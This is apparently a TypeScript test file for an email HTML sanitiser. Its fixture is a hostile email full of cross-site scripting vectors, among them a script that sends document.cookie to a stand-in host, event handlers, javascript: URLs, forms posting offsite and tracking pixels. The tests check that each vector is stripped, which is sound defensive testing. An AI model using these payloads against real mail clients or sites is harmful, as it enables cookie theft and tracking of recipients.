// HTML mail for display: nothing that runs, nothing that loads from elsewhere unless asked, own inline
// images kept.
import { sanitiseHtml } from '../../../connectors/email/index.ts';

const hostile = `
<html><head><style>body{background:url(https://t.example/css.png)}</style><link rel="stylesheet" href="https://t.example/x.css"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"></head>
<body onload="steal()">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p style="color: red; background-image: url(https://t.example/bg.png); font-weight: bold" onclick="x()">Dzień dobry</p>
<img src="https://tracker.example/pixel.gif?u=1" width="1" height="1">
<img src="//tracker.example/protocol-relative.gif">
<img src="cid:logo@firma" alt="logo">
<img src="javascript:alert(1)">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">
<img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">kliknij</a> <a href="https://firma.example/oferta">oferta</a> <a href="mailto:biuro@firma.example">mail</a>
<iframe src="https://evil.example"></iframe><object data="x.swf"></object><form action="https://evil.example"><input name="p"></form>
<svg><script>alert(4)</script></svg><math><mi xlink:href="javascript:alert(5)">m</mi></math>
<table background="https://t.example/table.png"><tr><td style="width: 50%; padding: 4px">komórka</td></tr></table>
<div style="width: expression(alert(6))">ie</div>
</body></html>`;

describe('sanitiseHtml', () => {
  const { html, blockedRemoteContent, inlineContentIds } = sanitiseHtml(hostile, { resolveContentId: (id) => `/api/files/inline/${encodeURIComponent(id)}` });

  it('removes scripts, event handlers, frames, forms, styles sheets and dangerous URLs', () => {
    for (const forbidden of [
      '<script',
      'onload',
      'onclick',
      'onerror',
      'javascript:',
      '<iframe',
      '<object',
      '<form',
      '<input',
      '<style',
      '<link',
      '<base',
      '<meta',
      '<svg',
      'expression(',
      'document.cookie',
      'url(',
    ]) {
      expect(html).not.toContain(forbidden);
    }
  });

  it('blocks remote images (keeping the address for "show images") and counts them', () => {
    expect(html).not.toMatch(/\ssrc="(https?:)?\/\//);
    expect(html).toContain('data-blocked-src="https://tracker.example/pixel.gif?u=1"');
    expect(html).toContain('data-blocked-src="//tracker.example/protocol-relative.gif"');
    expect(blockedRemoteContent).toBe(3); // two images and the table background
  });

  it('keeps cid: images (resolved to the app URL), data images, safe styles, layout and links', () => {
    expect(inlineContentIds).toEqual(['logo@firma']);
    expect(html).toContain('src="/api/files/inline/logo%40firma"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(html).toMatch(/<p style="color:red;font-weight:bold">Dzień dobry<\/p>/);
    expect(html).toContain('<td style="width:50%;padding:4px">komórka</td>');
    expect(html).toContain('<a href="https://firma.example/oferta" target="_blank" rel="noopener noreferrer nofollow">oferta</a>');
    expect(html).toContain('href="mailto:biuro@firma.example"');
  });

  it('loads remote images only when asked', () => {
    const shown = sanitiseHtml('<img src="https://cdn.example/a.png"><p onclick="x()">t</p>', { allowRemoteImages: true });
    expect(shown.html).toBe('<img src="https://cdn.example/a.png" /><p>t</p>');
    expect(shown.blockedRemoteContent).toBe(0);
  });
});
